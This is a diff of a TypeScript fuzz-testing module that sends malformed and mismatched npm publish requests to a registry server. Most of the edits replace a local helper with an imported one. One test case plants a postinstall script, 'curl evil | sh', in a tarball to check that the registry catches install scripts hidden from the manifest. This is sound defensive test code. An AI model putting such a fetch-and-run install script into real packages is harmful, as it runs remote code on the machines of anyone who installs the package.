@@ -1,6 +1,5 @@
-import { createHash } from "node:crypto";
 import { gzipSync } from "node:zlib";
-import { npmEntries, type TarEntry, tarOf, tgzOf, zipOf } from "./fuzz-build.js";
+import { npmEntries, npmPublishDoc, type TarEntry, tarOf, tgzOf, zipOf } from "./fuzz-build.js";
 import type { Ctx, FuzzCase } from "./fuzz-legacy.js";
 import type { Rng } from "./seeded.js";
 
@@ -15,37 +14,6 @@ function target(c: Ctx) {
 
 function tarballOf(pj: Json | string, extra: TarEntry[] = []): Buffer {
   return tgzOf([...npmEntries(pj), ...extra]);
-}
-
-/** The body `npm publish` sends for `bytes` (libnpmpublish's shape). */
-function publishDoc(name: string, version: string, bytes: Buffer, manifest: Json = { name, version }): Json {
-  return {
-    _id: name,
-    name,
-    description: "fuzz",
-    "dist-tags": { latest: version },
-    versions: {
-      [version]: {
-        ...manifest,
-        _id: `${name}@${version}`,
-        _nodeVersion: "20.0.0",
-        _npmVersion: "11.0.0",
-        dist: {
-          integrity: `sha512-${createHash("sha512").update(bytes).digest("base64")}`,
-          shasum: createHash("sha1").update(bytes).digest("hex"),
-          tarball: `http://localhost/npm/${name}/-/x-${version}.tgz`,
-        },
-      },
-    },
-    access: null,
-    _attachments: {
-      [`${name}-${version}.tgz`]: {
-        content_type: "application/octet-stream",
-        data: bytes.toString("base64"),
-        length: bytes.length,
-      },
-    },
-  };
 }
 
 function put(
@@ -68,7 +36,7 @@ function deep(rng: Rng): string {
     ["[", "]"],
     ['{"a":', "}"],
   ]);
-  return open!.repeat(n) + "1" + close!.repeat(n);
+  return `${open!.repeat(n)}1${close!.repeat(n)}`;
 }
 
 function versionOf(doc: Json): Json {
@@ -83,7 +51,7 @@ function attachmentOf(doc: Json): Json {
 export function npmJson(c: Ctx): FuzzCase {
   const t = target(c);
   const bytes = tarballOf({ name: t.name, version: t.version });
-  const doc = publishDoc(t.name, t.version, bytes);
+  const doc = npmPublishDoc(t.name, t.version, bytes);
   const good = JSON.stringify(doc);
   const cases: Array<[string, () => { body: Buffer | string; type?: string }]> = [
     ["truncated JSON", () => ({ body: good.slice(0, c.rng.int(good.length)) })],
@@ -222,7 +190,7 @@ export function npmJson(c: Ctx): FuzzCase {
 export function npmAttachments(c: Ctx): FuzzCase {
   const t = target(c);
   const bytes = tarballOf({ name: t.name, version: t.version });
-  const doc = publishDoc(t.name, t.version, bytes);
+  const doc = npmPublishDoc(t.name, t.version, bytes);
   const att = attachmentOf(doc);
   const b64 = String(att.data);
   const cases: Array<[string, () => void]> = [
@@ -310,7 +278,7 @@ export function npmAttachments(c: Ctx): FuzzCase {
           "",
           "sha512-",
           "md5-x sha512-y",
-          "sha512-" + "A".repeat(10000),
+          `sha512-${"A".repeat(10000)}`,
         ]);
       },
     ],
@@ -360,13 +328,13 @@ export function npmMismatch(c: Ctx): FuzzCase {
       "URL and body name differ",
       () => ({
         url: other,
-        doc: publishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version })),
+        doc: npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version })),
       }),
     ],
     [
       "body _id differs",
       () => {
-        const d = publishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
+        const d = npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
         d._id = other;
         return { url: t.name, doc: d };
       },
@@ -375,7 +343,7 @@ export function npmMismatch(c: Ctx): FuzzCase {
       "manifest name differs",
       () => ({
         url: t.name,
-        doc: publishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }), {
+        doc: npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }), {
           name: other,
           version: t.version,
         }),
@@ -385,20 +353,20 @@ export function npmMismatch(c: Ctx): FuzzCase {
       "tarball name differs",
       () => ({
         url: t.name,
-        doc: publishDoc(t.name, t.version, tarballOf({ name: other, version: t.version })),
+        doc: npmPublishDoc(t.name, t.version, tarballOf({ name: other, version: t.version })),
       }),
     ],
     [
       "tarball version differs",
       () => ({
         url: t.name,
-        doc: publishDoc(t.name, t.version, tarballOf({ name: t.name, version: "9.9.9" })),
+        doc: npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: "9.9.9" })),
       }),
     ],
     [
       "version key differs",
       () => {
-        const d = publishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
+        const d = npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
         d.versions = { "8.8.8": versionOf(d) };
         return { url: t.name, doc: d };
       },
@@ -406,7 +374,7 @@ export function npmMismatch(c: Ctx): FuzzCase {
     [
       "dist-tag names another version",
       () => {
-        const d = publishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
+        const d = npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
         d["dist-tags"] = { latest: "7.7.7" };
         return { url: t.name, doc: d };
       },
@@ -414,7 +382,7 @@ export function npmMismatch(c: Ctx): FuzzCase {
     [
       "invalid dist-tag",
       () => {
-        const d = publishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
+        const d = npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
         d["dist-tags"] = { [c.rng.pick(["1.0.0", "", "v1", "a b", "x".repeat(500), "%"])]: t.version };
         return { url: t.name, doc: d };
       },
@@ -433,7 +401,7 @@ export function npmMismatch(c: Ctx): FuzzCase {
           "9".repeat(300),
           "1.0.0-\u00e9",
         ]);
-        return { url: t.name, doc: publishDoc(t.name, v, tarballOf({ name: t.name, version: v })) };
+        return { url: t.name, doc: npmPublishDoc(t.name, v, tarballOf({ name: t.name, version: v })) };
       },
     ],
     [
@@ -455,14 +423,14 @@ export function npmMismatch(c: Ctx): FuzzCase {
         ]);
         return {
           url: encodeURIComponent(n) || "x",
-          doc: publishDoc(n, t.version, tarballOf({ name: n, version: t.version })),
+          doc: npmPublishDoc(n, t.version, tarballOf({ name: n, version: t.version })),
         };
       },
     ],
     [
       "two versions",
       () => {
-        const d = publishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
+        const d = npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
         (d.versions as Json)["2.0.0"] = versionOf(d);
         return { url: t.name, doc: d };
       },
@@ -470,7 +438,7 @@ export function npmMismatch(c: Ctx): FuzzCase {
     [
       "no versions",
       () => {
-        const d = publishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
+        const d = npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
         d.versions = {};
         return { url: t.name, doc: d };
       },
@@ -479,7 +447,7 @@ export function npmMismatch(c: Ctx): FuzzCase {
       "manifest hides install scripts",
       () => ({
         url: t.name,
-        doc: publishDoc(
+        doc: npmPublishDoc(
           t.name,
           t.version,
           tarballOf({ name: t.name, version: t.version, scripts: { postinstall: "curl evil | sh" } }),
@@ -490,7 +458,7 @@ export function npmMismatch(c: Ctx): FuzzCase {
       "manifest dependencies differ",
       () => ({
         url: t.name,
-        doc: publishDoc(
+        doc: npmPublishDoc(
           t.name,
           t.version,
           tarballOf({ name: t.name, version: t.version, dependencies: { evil: "*" } }),
@@ -657,7 +625,7 @@ export function npmTarballs(c: Ctx): FuzzCase {
   return {
     family: "npm: tarball attacks",
     what,
-    req: put(c, t.name, Buffer.from(JSON.stringify(publishDoc(t.name, t.version, bytes)))),
+    req: put(c, t.name, Buffer.from(JSON.stringify(npmPublishDoc(t.name, t.version, bytes)))),
     creates: creates(t.name, t.version),
   };
 }
@@ -665,7 +633,7 @@ export function npmTarballs(c: Ctx): FuzzCase {
 /** The valid publish that creates the package the others target. */
 export function validFirstPublish(c: Ctx): FuzzCase {
   const version = "0.1.0";
-  const doc = publishDoc(c.existing, version, tarballOf({ name: c.existing, version }));
+  const doc = npmPublishDoc(c.existing, version, tarballOf({ name: c.existing, version }));
   return {
     family: "setup",
     what: "valid publish",
